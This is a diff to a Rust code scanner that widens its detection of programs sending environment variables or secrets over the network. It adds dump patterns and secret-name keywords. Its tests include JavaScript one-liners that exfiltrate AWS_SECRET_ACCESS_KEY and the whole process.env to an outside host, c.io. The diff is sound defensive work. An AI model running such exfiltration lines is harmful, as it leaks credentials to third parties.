@@ -275,6 +275,35 @@ const ENV_READS: &[&str] = &[
     "system.getenv",
     "environ",
 ];
+/// The whole environment at once.
+const ENV_DUMPS: &[&str] = &[
+    "process.env)",
+    "process.env,",
+    "process.env}",
+    "process.env;",
+    "process.env\n",
+    "keys(process.env",
+    "entries(process.env",
+    "os.environ)",
+    "os.environ,",
+    "os.environ.copy",
+    "os.environ.items",
+    "os.environ.keys",
+    "os.environ.values",
+    "dict(os.environ",
+    "%env",
+    "env.to_h",
+    "env.to_a",
+    "env.inspect",
+    "getenv()",
+    "$_env",
+    "$_server",
+    "deno.env.toobject",
+    "environ.copy",
+];
+/// Words in a variable's name that say it holds a secret.
+const SECRET_WORDS: &[&str] =
+    &["token", "secret", "passw", "api_key", "apikey", "access_key", "private", "credential", "auth", "session", "cookie", "aws_", "github_", "gh_", "npm_", "ssh", "_key", "key_"];
 /// Talking to the network.
 const NETWORK: &[&str] = &[
     "http",
@@ -384,7 +413,11 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
         }
     }
     let network = NETWORK.iter().any(|n| lower.contains(n));
-    if network && ENV_READS.iter().any(|e| lower.contains(e)) {
+    // The whole environment, or a variable whose name says it holds a secret; a server reading
+    // `PORT` is not sending anything.
+    let dumps_env = ENV_DUMPS.iter().any(|d| lower.contains(d));
+    let secret_env = ENV_READS.iter().any(|e| lower.contains(e)) && SECRET_WORDS.iter().any(|w| lower.contains(w));
+    if network && (dumps_env || secret_env) {
         out.facts |= fact::CODE_SENDS_ENV;
     }
     if SOCKETS.iter().any(|s| lower.contains(s)) && WIRING.iter().any(|w| lower.contains(w)) {
@@ -868,6 +901,8 @@ mod tests {
     fn environment_sent_over_the_network() {
         assert_ne!(scan_code("require('https').get('https://c.io/?'+process.env.AWS_SECRET_ACCESS_KEY)", Lang::Js).facts & fact::CODE_SENDS_ENV, 0);
         assert_eq!(scan_code("console.log(process.env.NODE_ENV)", Lang::Js).facts, 0);
+        assert_ne!(scan_code("fetch('https://c.io', {method: 'POST', body: JSON.stringify(process.env)})", Lang::Js).facts & fact::CODE_SENDS_ENV, 0);
+        assert_eq!(scan_code("require('http').createServer((q, r) => r.end('ok')).listen(process.env.PORT || 3000)", Lang::Js).facts, 0);
     }
 
     #[test]
